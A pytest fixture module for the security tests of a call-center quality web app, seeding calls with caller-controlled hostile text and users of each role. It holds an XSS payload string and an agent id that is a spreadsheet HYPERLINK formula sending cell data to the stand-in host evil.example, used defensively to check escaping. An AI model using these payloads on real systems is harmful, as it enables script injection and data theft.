"""Fixtures for the security tests: a call store whose calls carry hostile text (markup,
formulas, quotes) written through the real `CallStore`, users of every role, and a real
`qa serve` process over it. No Whisper: what an attacker controls is the text a call stores
(what a caller says, a SIP header's agent id), so the calls are written as the pipeline would
write them."""

from __future__ import annotations

import shutil
import time
import wave
from collections.abc import Iterator
from pathlib import Path

import pytest

from qa.store import CallStore, StoreOptions
from qa.types import (
    CallInfo,
    Event,
    EventKind,
    Recording,
    Scorecard,
    ScoreItem,
    Segment,
    Severity,
    Speaker,
)
from qa.web.workspace import Workspace
from tests.web.conftest import PASSWORD, Client, Served, start_server, stop_server

__all__ = ["HOSTILE", "ODD_ID", "PASSWORD", "Client", "Served"]

#: Text a caller (or a SIP header) can put into a call.
HOSTILE = '<script>alert(1)</script>"\'><img src=x onerror=alert(2)>'
#: Agent ids: the agent's calls, another agent's, and one that is a spreadsheet formula.
AGENTS = ("agent-a", "agent-b", '=HYPERLINK("http://evil.example/?"&A1,"x")')
#: A call id as a file's name can make it (`qa score` names a call after its file): characters
#: that end or redirect an address if put in a link unquoted.
ODD_ID = "file-refund?x=1#top %41-0199"
USERS = {"ann": ("agent", "agent-a"), "bo": ("agent", "agent-b"), "rita": ("reviewer", ""),
         "sam": ("supervisor", ""), "ada": ("admin", "")}


def fill(db: Path) -> dict[str, str]:
    """Writes one ended, scored call per agent of `AGENTS`; returns agent id -> call id."""
    calls = {}
    with CallStore(StoreOptions(path=db, redact=False)) as store:
        for n, agent in enumerate(AGENTS):
            call_id = f"call-{n}" if n < 2 else ODD_ID
            store.start_call(CallInfo(call_id, agent, "test", time.time() - 600 + n,
                                      (Speaker.AGENT, Speaker.CUSTOMER), 8000))
            store.add_segment(Segment(call_id, Speaker.CUSTOMER, 1.0, 3.0,
                                      f"hello {HOSTILE} not my department", language="en"))
            store.add_event(Event(call_id, 2.0, EventKind.FORBIDDEN_PHRASE, "no_shirking",
                                  Severity.WARNING, -5.0, evidence=HOSTILE, message=HOSTILE))
            store.save_scorecard(Scorecard(call_id, (
                ScoreItem("no_shirking", HOSTILE, 10.0, 5.0, (HOSTILE,), (2.0,)),), 5.0, "<75"))
            store.end_call(call_id, duration=4.0, category=HOSTILE, reason="hangup")
            calls[agent] = call_id
        # A kept recording for the first call (one second of silence), for the audio route.
        wav = db.parent / "call-0.wav"
        with wave.open(str(wav), "wb") as out:
            out.setnchannels(1)
            out.setsampwidth(2)
            out.setframerate(8000)
            out.writeframes(b"\0\0" * 8000)
        store.add_recording(Recording("call-0", str(wav), "wav", 8000, 1, 1.0,
                                      wav.stat().st_size))
    return calls


@pytest.fixture(scope="session")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    """A store with the hostile calls and the users of `USERS` (a template: copy it)."""
    db = tmp_path_factory.mktemp("hostile") / "calls.db"
    calls = fill(db)
    workspace = Workspace(db)
    for name, (role, agent) in USERS.items():
        workspace.add_user(name, role, PASSWORD, agent_id=agent)
    workspace.close()
    return db, calls


@pytest.fixture(scope="session")
def hostile(hostile_db, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """`qa serve` over a copy of the hostile store."""
    folder = tmp_path_factory.mktemp("hostile-served")
    shutil.copytree(hostile_db[0].parent, folder, dirs_exist_ok=True)
    proc, url = start_server(folder / "calls.db")
    try:
        yield Served(url, folder / "calls.db", hostile_db[1])
    finally:
        stop_server(proc)


def logged_in(served: Served, username: str) -> Client:
    """A client logged in as `username`."""
    client = Client(served.url)
    status, _, _ = client.login(username)
    assert status == 303
    return client
